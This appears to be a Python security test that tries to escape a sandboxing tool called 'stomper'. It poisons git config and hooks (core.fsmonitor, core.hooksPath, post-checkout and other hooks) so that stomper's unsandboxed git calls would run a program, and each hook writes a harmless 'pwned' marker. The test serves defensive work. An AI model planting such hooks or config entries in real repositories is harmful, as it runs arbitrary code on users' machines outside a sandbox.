"""Plants settings and hooks that would run a program in stomper's own git calls: a
``core.fsmonitor``, a ``core.hooksPath``, ``post-checkout`` and ``reference-transaction``
hooks; in its own repository's config and hooks, and in the git directory stomper keeps
beside the workspace. Each writes a ``pwned-*`` file into the user's checkout when run: from
stomper's own (unsandboxed) git calls that would be an escape from any sandbox.

In a linked worktree its ``git config`` wrote the user's own config, which every git call
of stomper's (and the user's) read.
"""

from __future__ import annotations

import sys
from pathlib import Path

from attack import attempt, checkout, fix, git

MARK = "#!/bin/sh\necho pwned > {user}/pwned-{name}\n"


def hook(folder: Path, name: str) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    path.write_text(MARK.format(user=checkout(), name=name))
    path.chmod(0o755)
    return path


def poison(git_dir: Path) -> None:
    hooks = git_dir / "hooks"
    for name in ("post-checkout", "reference-transaction", "pre-commit"):
        hook(hooks, name)
    monitor = hook(git_dir / "monitor", "fsmonitor")
    with (git_dir / "config").open("a", encoding="utf-8") as config:
        config.write(f"[core]\n\tfsmonitor = {monitor}\n\thooksPath = {hooks}\n")


fix(sys.argv[-1])
_, own = git("rev-parse", "--absolute-git-dir")
git("config", "core.fsmonitor", str(hook(Path(own) / "monitor", "fsmonitor")))
attempt("poison its own repository", poison, Path(own))
attempt("poison stomper's git directory of the workspace", poison, Path("..") / "git")
